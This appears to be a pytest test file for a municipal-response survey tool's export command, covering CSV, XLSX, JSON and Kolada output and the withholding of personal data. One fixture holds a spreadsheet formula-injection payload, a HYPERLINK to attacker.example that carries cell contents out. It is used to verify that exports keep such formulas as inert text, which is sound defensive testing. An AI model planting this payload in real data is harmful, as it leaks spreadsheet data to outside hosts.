"""``kkik export``: the results as CSV, XLSX (read back), JSON and Kolada JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine

from harness.channels.email.store import MailStore
from harness.core.clock import SystemClock
from probes.email_analysis import TimingRules
from probes.imap_client import FetchedMessage
from tests.factories import reply_to, seed_sent_probe

FRIDAY_1600 = datetime(2026, 10, 9, 14, 0, tzinfo=UTC)


@pytest.fixture
def config(tmp_path: Path, sqlite_engine: Engine) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "sqlite:///{sqlite_engine.url.database}"\n')
    answered = seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="aaaa1111")
    seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="bbbb2222")
    store = MailStore(sqlite_engine, SystemClock(), TimingRules())
    monday = FRIDAY_1600 + timedelta(days=3)
    store.ingest("INBOX", 1, FetchedMessage(1, monday, None, reply_to(answered, written_at=monday)))
    return path


def test_it_exports_one_row_per_municipality_and_measure(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kkik.csv"
    result = kkik(
        "--lang", "en", "--config", str(config), "export", "--format", "csv", "--out", str(out)
    )
    assert result.code == 0, result.err
    assert result.out == f"Wrote 5 rows to {out}.\n"
    text = out.read_bytes().decode("utf-8")
    assert text.startswith("\ufeffkommunkod,kommun,ar,measure,kpi_id,kpi_id_is_own,title,")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    email = next(r for r in rows if r["measure"] == "email_within_1_working_day")
    assert (email["kommunkod"], email["kommun"], email["ar"]) == ("2380", "Östersund", "2026")
    assert (email["value"], email["numerator"], email["denominator"]) == ("50", "1", "2")
    assert (email["kpi_id"], email["kpi_id_is_own"]) == ("email_within_1_working_day", "True")
    assert email["edition"] == "2018"
    bemotande = next(r for r in rows if r["measure"] == "phone_bemotande")
    assert (bemotande["kpi_id"], bemotande["kpi_id_is_own"], bemotande["value"]) == (
        "U00414",
        "False",
        "",
    )


def test_it_writes_an_xlsx_that_reads_back(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kkik.xlsx"
    assert kkik("--config", str(config), "export", "--format", "xlsx", "--out", str(out)).code == 0
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:4] == ("kommunkod", "kommun", "ar", "measure")
    email = next(v for v in values if v[3] == "email_within_1_working_day")
    assert (email[0], email[1], email[7], email[8], email[9]) == ("2380", "Östersund", 50, 1, 2)


def test_it_writes_kolada_shaped_json(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "kolada.json"
    result = kkik(
        "--config", str(config), "export", "--format", "json", "--kolada", "--edition", "2016",
        "--out", str(out),
    )  # fmt: skip
    assert result.code == 0, result.err
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data == {
        "values": [
            {
                "kpi": "U00412",
                "municipality": "2380",
                "period": 2026,
                "values": [{"gender": "T", "value": 50, "count": 2}],
            }
        ]
    }
    misuse = kkik("--lang", "en", "--config", str(config), "export", "--format", "csv",
                  "--kolada", "--out", str(out))  # fmt: skip
    assert (misuse.code, misuse.err) == (2, "--kolada writes JSON; use --format json\n")


def test_the_evidence_export_leaves_out_personal_data_unless_asked(
    kkik, config: Path, tmp_path: Path
):
    plain, full = tmp_path / "plain.json", tmp_path / "full.json"
    args = ("--config", str(config), "export", "--format", "json", "--evidence", "--out")
    assert kkik(*args, str(plain)).code == 0
    assert kkik(*args, str(full), "--include-personal-data").code == 0
    rows = json.loads(plain.read_text(encoding="utf-8"))
    assert len(rows) == 2
    assert "Karin" not in plain.read_text(encoding="utf-8")
    answered = next(r for r in rows if r["answered_at"])
    assert answered["answered_at"] == "2026-10-12T16:00:00+02:00"
    with_names = json.loads(full.read_text(encoding="utf-8"))
    assert {r["reply_from_name"] for r in with_names} == {"Karin Berg", None}


# A municipality's reply whose sender name is a spreadsheet formula (issue 15, M4).
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Klicka här")'


@pytest.fixture
def hostile_config(tmp_path: Path, sqlite_engine: Engine) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "sqlite:///{sqlite_engine.url.database}"\n')
    answered = seed_sent_probe(sqlite_engine, sent_at=FRIDAY_1600, token="aaaa1111")
    store = MailStore(sqlite_engine, SystemClock(), TimingRules())
    monday = FRIDAY_1600 + timedelta(days=3)
    quoted = HOSTILE_NAME.replace("\\", "\\\\").replace('"', '\\"')
    raw = reply_to(answered, written_at=monday).replace(
        b"From: Karin Berg <", f'From: "{quoted}" <'.encode()
    )
    store.ingest("INBOX", 1, FetchedMessage(1, monday, None, raw))
    return path


def test_a_formula_in_a_reply_sender_stays_text_in_the_csv(
    kkik, hostile_config: Path, tmp_path: Path
):
    out = tmp_path / "evidence.csv"
    result = kkik("--config", str(hostile_config), "export", "--format", "csv", "--evidence",
                  "--include-personal-data", "--out", str(out))  # fmt: skip
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0]["reply_from_name"] == "'" + HOSTILE_NAME
    assert rows[0]["probe_id"] == "1"  # numbers stay as they were
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


def test_a_formula_in_a_reply_sender_stays_text_in_the_xlsx(
    kkik, hostile_config: Path, tmp_path: Path
):
    out = tmp_path / "evidence.xlsx"
    result = kkik("--config", str(hostile_config), "export", "--format", "xlsx", "--evidence",
                  "--include-personal-data", "--out", str(out))  # fmt: skip
    assert result.code == 0, result.err
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("reply_from_name") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE_NAME, "s", True)
    probe_id = sheet.cell(row=2, column=header.index("probe_id") + 1)
    assert (probe_id.value, probe_id.data_type) == (1, "n")
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_it_names_an_output_file_it_cannot_write(kkik, config: Path, tmp_path: Path):
    out = tmp_path / "saknas" / "kkik.csv"
    result = kkik(
        "--lang", "en", "--config", str(config), "export", "--format", "csv", "--out", str(out)
    )  # fmt: skip
    assert (result.code, result.out) == (2, "")
    assert result.err == f"{out}: cannot be written (No such file or directory)\n"
